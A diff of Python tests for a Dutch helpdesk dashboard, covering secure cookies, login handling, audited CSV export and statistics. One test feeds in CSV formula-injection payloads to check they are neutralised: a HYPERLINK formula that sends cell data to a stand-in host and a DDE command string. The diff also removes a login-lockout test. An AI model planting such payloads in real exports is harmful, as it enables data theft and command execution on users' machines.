@@ -50,10 +50,35 @@ def test_login_sets_a_strict_http_only_cookie_and_returns_to_the_page_asked(
     assert visitor.get("/statistiek").status_code == 200
 
 
-def test_secure_cookie_behind_https_setting(tmp_path: Path) -> None:
+def test_every_cookie_is_secure_when_the_setting_says_so(tmp_path: Path) -> None:
+    """The login form's CSRF cookie, the session cookie, and the cookies that clear them."""
     with make_dashboard(tmp_path, dashboard_secure_cookies=True) as dashboard:
-        response = dashboard.visitor().log_in("bram")
-    assert all("Secure" in c for c in response.headers.get_list("set-cookie"))
+        visitor = dashboard.visitor()
+        form = visitor.get("/inloggen")
+        logged_in = visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD})
+        visitor.get("/verzoeken")
+        logged_out = visitor.post("/uitloggen")
+    cookies = [
+        cookie
+        for response in (form, logged_in, logged_out)
+        for cookie in response.headers.get_list("set-cookie")
+    ]
+    names = {cookie.split("=", 1)[0] for cookie in cookies}
+    assert names == {"hulpbot_login", "hulpbot_sessie"} and len(cookies) == 4
+    for cookie in cookies:
+        assert "; Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie
+
+
+def test_no_cookie_is_secure_for_plain_http_on_this_machine(dashboard: Dashboard) -> None:
+    assert dashboard.settings.dashboard_public_url.startswith("http://127.0.0.1")
+    visitor = dashboard.visitor()
+    cookies = [
+        *visitor.get("/inloggen").headers.get_list("set-cookie"),
+        *visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD}).headers.get_list(
+            "set-cookie"
+        ),
+    ]
+    assert cookies and not any("Secure" in cookie for cookie in cookies)
 
 
 @pytest.mark.parametrize("target", ["//example.org/x", "https://example.org", "/\\example.org"])
@@ -74,16 +99,6 @@ def test_wrong_password_or_unknown_name_get_the_same_answer(
     assert response.status_code == 401
     assert "Je naam of wachtwoord klopt niet." in response.text
     assert "hulpbot_sessie" not in response.headers.get("set-cookie", "")
-
-
-def test_lockout_after_five_failures_even_with_the_right_password(dashboard: Dashboard) -> None:
-    visitor = dashboard.visitor()
-    for _ in range(5):
-        assert visitor.log_in("bram", "helemaal fout wachtwoord").status_code == 401
-    locked = visitor.log_in("bram")
-    assert locked.status_code == 429 and "Wacht een kwartier" in locked.text
-    dashboard.clock.advance(minutes=16)
-    assert visitor.log_in("bram").status_code == 302
 
 
 def test_login_form_without_its_token_is_refused(dashboard: Dashboard) -> None:
@@ -148,7 +163,7 @@ def test_staff_cannot_export_or_manage_accounts(
 
 
 def test_admin_export_warns_and_is_audited(dashboard: Dashboard) -> None:
-    dashboard.requests.save(new_request(name="=HYPERLINK(1)"), NOW)
+    dashboard.requests.save(new_request(name="Maria"), NOW)
     visitor = logged_in(dashboard, "anna")
     warning = visitor.get("/export")
     assert "persoonsgegevens" in warning.text
@@ -157,10 +172,39 @@ def test_admin_export_warns_and_is_audited(dashboard: Dashboard) -> None:
     assert response.headers["content-type"].startswith("text/csv")
     assert "attachment" in response.headers["content-disposition"]
     rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
-    assert len(rows) == 1 and rows[0]["phone"] == "+32470123456"
-    assert rows[0]["name"] == "'=HYPERLINK(1)"  # never a formula in a spreadsheet
+    assert len(rows) == 1 and rows[0]["name"] == "Maria" and rows[0]["channel"] == "web"
     [event] = dashboard.requests.events()
     assert (event.actor, event.action, event.detail) == ("anna", "export", "1 verzoeken")
+
+
+def test_no_exported_cell_can_start_a_formula(dashboard: Dashboard) -> None:
+    """Every text column, not only what residents typed: the channel once came from a caller
+    (`=HYPERLINK(…)` reached the export that way), and it is shown from the fixed set."""
+    attack = '=HYPERLINK("http://example.org/?"&A1,"klik")'
+    reference = dashboard.requests.save(
+        new_request(
+            name=attack,
+            channel=attack,
+            topic="+SUM(1)",
+            preferred_moment="-1+2",
+            referral_code="@cmd",
+        ),
+        NOW,
+    ).record.reference
+    dashboard.requests.claim(reference, "=cmd|' /C calc'!A0", NOW)
+    visitor = logged_in(dashboard, "anna")
+    visitor.get("/export")
+    [row] = list(csv.DictReader(io.StringIO(visitor.post("/export").text), delimiter=";"))
+    assert row["channel"] == "anders"
+    assert row["name"] == "'" + attack and row["assigned_to"] == "'=cmd|' /C calc'!A0"
+    assert (row["topic"], row["preferred_moment"], row["referral_code"]) == (
+        "'+SUM(1)",
+        "'-1+2",
+        "'@cmd",
+    )
+    assert row["phone"] == "'+32470123456"  # read as text, not as the sum +32470123456
+    for column, cell in row.items():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
 
 
 def test_claim_status_changes_and_notes_are_audited_and_shown(dashboard: Dashboard) -> None:
@@ -185,7 +229,7 @@ def test_claim_status_changes_and_notes_are_audited_and_shown(dashboard: Dashboa
     detail = dashboard.requests.detail(reference)
     assert detail is not None
     assert [(a.actor, a.action, a.detail) for a in detail.audit] == [
-        ("hulpbot", "aangemaakt", "via rest"),
+        ("hulpbot", "aangemaakt", "via web"),
         ("bram", "ik bel", None),
         ("bram", "status gewijzigd", "in behandeling → niet bereikbaar (poging 1)"),
         ("bram", "status gewijzigd", "niet bereikbaar → niet bereikbaar (poging 2)"),
@@ -291,7 +335,7 @@ def test_content_page_flags_facts_past_the_staleness_window(dashboard: Dashboard
 def test_statistics_count_per_topic_and_channel_with_the_median_wait(
     dashboard: Dashboard,
 ) -> None:
-    for n, channel in enumerate(["rest", "telegram", "telegram"]):
+    for n, channel in enumerate(["web", "telegram", "telegram"]):
         reference = dashboard.requests.save(
             new_request(f"k{n}", channel=channel), NOW
         ).record.reference
